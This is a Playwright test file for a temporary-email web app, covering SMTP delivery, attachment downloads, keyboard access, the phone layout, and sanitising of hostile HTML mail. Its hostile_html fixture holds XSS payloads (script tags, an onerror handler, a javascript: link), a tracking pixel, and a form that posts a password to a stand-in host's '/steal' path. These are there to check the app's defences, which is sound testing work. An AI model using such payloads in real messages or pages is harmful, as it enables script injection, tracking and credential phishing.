"""The temp-mail page in headless Chromium: live delivery over SMTP, reading,
downloads, hostile HTML, keyboard use and the phone layout."""
from __future__ import annotations

import http.server
import os
import smtplib
import threading
from email.message import EmailMessage
from urllib.parse import urlsplit

import pytest

WAIT_MS = 10000  # generous upper bound; the page polls every 2 s


def send(smtp_server, to: str, subject: str, text: str, html: str | None = None,
         attachments=(), related=()):
    """Send one message over a real SMTP connection to the in-process daemon."""
    mail = EmailMessage()
    mail["From"] = "Shop Team <hello@shop.example>"
    mail["To"] = to
    mail["Subject"] = subject
    mail.set_content(text)
    if html is not None:
        mail.add_alternative(html, subtype="html")
        for data, cid in related:
            mail.get_payload()[1].add_related(data, maintype="image", subtype="png", cid=f"<{cid}>")
    for name, data in attachments:
        mail.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    with smtplib.SMTP("127.0.0.1", smtp_server.port, timeout=30) as smtp:
        assert smtp.send_message(mail, from_addr="hello@shop.example", to_addrs=[to]) == {}


def open_inbox(page, live_server) -> str:
    """Open ``/``, wait for the first poll, and return the address shown."""
    page.goto(live_server.url + "/")
    page.wait_for_selector("#live-status.on")
    return page.input_value("#address")


def test_mail_arrives_live_is_read_and_downloaded(page, live_server, smtp_server, tmp_path):
    address = open_inbox(page, live_server)
    page.evaluate("window.__sameDocument = true")  # survives only without a reload
    payload = os.urandom(2048)
    send(smtp_server, address, "Your receipt", "Thanks! Details: https://shop.example/r/1",
         html="<p>Thanks for <b>shopping</b>.</p>", attachments=[("receipt.bin", payload)])

    row = page.wait_for_selector("#message-list li.msg.unread", timeout=WAIT_MS)
    assert "Your receipt" in row.inner_text() and "Shop Team" in row.inner_text()
    assert page.evaluate("window.__sameDocument") is True
    assert page.inner_text("#count") == "1" and page.is_hidden("#empty")

    row.query_selector("a").click()
    page.wait_for_selector("#reader .msg-subject:has-text('Your receipt')")
    assert page.evaluate("window.__sameDocument") is True
    frame = page.frame_locator("#reader iframe.mail-frame")
    # The frame loads its own document after the reader pane: wait for it,
    # rather than read the blank body it has for a moment.
    frame.locator("body:has-text('Thanks for shopping.')").wait_for(timeout=WAIT_MS)
    assert "Thanks for shopping." in frame.locator("body").inner_text()
    page.wait_for_selector("#message-list li.msg:not(.unread)")

    with page.expect_download() as download:
        page.click("#reader .attachments a")
    assert download.value.suggested_filename == "receipt.bin"
    saved = tmp_path / "receipt.bin"
    download.value.save_as(saved)
    assert saved.read_bytes() == payload

    with page.expect_download() as eml:
        page.click("text=Download .eml")
    assert b"Subject: Your receipt" in open(eml.value.path(), "rb").read()

    page.click("#reader button:has-text('Delete')")
    page.wait_for_selector("#reader :text('Message deleted.')")
    page.wait_for_selector("#empty:not([hidden])", timeout=WAIT_MS)
    assert page.query_selector_all("#message-list li") == []


class Tracker:
    """A stand-in for a remote host: records every request that reaches it."""

    def __init__(self):
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a")

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://localhost:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self):
        self.server.shutdown()


@pytest.fixture
def tracker():
    server = Tracker()
    yield server
    server.stop()


PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082")


def hostile_html(remote: str) -> str:
    return f"""<html><head><style>body {{ background: url({remote}/style-bg.gif) }}</style>
<script>alert('head script')</script></head><body>
<h1>Account update</h1>
<script>alert('script'); fetch('{remote}/fetch');</script>
<img src="x" onerror="alert('onerror')">
<img src="{remote}/pixel.gif" alt="pixel">
<img src="cid:logo@shop" alt="logo">
<a href="javascript:alert('javascript link')">Click to verify</a>
<a href="https://shop.example/verify">Verify on the web</a>
<form action="{remote}/steal" method="post"><input name="password"><button>Log in</button></form>
<div style="background-image: url({remote}/inline-bg.gif); color: #b42318">Styled text</div>
<iframe src="{remote}/frame"></iframe>
<svg><image href="{remote}/svg.gif"/></svg>
</body></html>"""


def test_hostile_html_runs_nothing_and_loads_nothing_remote(page, live_server, smtp_server, tracker):
    dialogs, requests = [], []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.context.on("request", lambda r: requests.append(r.url))
    address = open_inbox(page, live_server)
    send(smtp_server, address, "Hostile", "Plain part", html=hostile_html(tracker.base),
         related=[(PNG, "logo@shop")])
    page.wait_for_selector("#message-list li.msg", timeout=WAIT_MS).query_selector("a").click()
    page.wait_for_selector("#reader .notice:has-text('remote image')")
    frame = page.frame_locator("#reader iframe.mail-frame")
    # As above: wait for the frame's own document (its blank body once read '').
    frame.locator("body:has-text('Account update')").wait_for(timeout=WAIT_MS)
    body = frame.locator("body")
    assert "Account update" in body.inner_text()
    assert frame.locator("body :is(script, form, input, button, iframe, svg, style)").count() == 0
    # The cid: image came from the message's own attachment and really rendered.
    frame.locator("img[alt=logo]").wait_for()
    assert frame.locator("img[alt=logo]").evaluate("img => img.complete && img.naturalWidth") == 1
    assert frame.locator("img[alt=pixel]").get_attribute("src") is None
    assert frame.locator("a", has_text="Click to verify").get_attribute("href") is None
    assert frame.locator("a", has_text="Verify on the web").get_attribute("rel") == "noopener noreferrer"
    assert frame.locator("a", has_text="Verify on the web").get_attribute("target") == "_blank"
    frame.locator("a", has_text="Click to verify").click()
    page.wait_for_timeout(500)  # give any (wrongly) running script a chance to show itself

    own = urlsplit(live_server.url).netloc
    assert dialogs == []
    assert tracker.hits == []
    assert [u for u in requests if urlsplit(u).netloc != own] == []

    # Asking for remote images lets exactly those through, and still no script.
    page.click("#reader a:has-text('Show remote images')")
    page.wait_for_selector("#reader iframe[src*='remote=1']")
    page.frame_locator("#reader iframe.mail-frame").locator("img[alt=pixel][src]").wait_for()
    for _ in range(50):
        if tracker.hits:
            break
        page.wait_for_timeout(100)
    assert tracker.hits == ["/pixel.gif"]
    assert dialogs == []


def test_keyboard_and_labels(page, live_server):
    open_inbox(page, live_server)
    page.get_by_role("button", name="Copy").wait_for()
    assert page.get_by_label("Username").count() == 1
    page.keyboard.press("Tab")  # brand link, nav links, then the address and its buttons
    focused = []
    for _ in range(12):
        focused.append(page.evaluate("document.activeElement.id || document.activeElement.textContent.trim()"))
        page.keyboard.press("Tab")
    assert "address" in focused and "Copy" in focused and "New random address" in focused
    page.get_by_text("Change address").focus()
    page.keyboard.press("Enter")  # <details> opens from the keyboard
    page.get_by_label("Username").fill("keyboard42")
    page.get_by_label("Domain").select_option("tempmail.test")
    page.keyboard.press("Enter")
    page.wait_for_selector(".flash-ok")
    assert page.input_value("#address") == "keyboard42@tempmail.test"


def test_phone_layout_fits_the_screen(mobile_page, live_server):
    open_inbox(mobile_page, live_server)
    overflow = mobile_page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
    assert overflow <= 0
    copy = mobile_page.get_by_role("button", name="Copy").bounding_box()
    address = mobile_page.locator("#address").bounding_box()
    assert copy["y"] > address["y"]  # stacked under the address on a phone
    assert mobile_page.locator("#reader").bounding_box()["y"] > mobile_page.locator(".inbox").bounding_box()["y"]
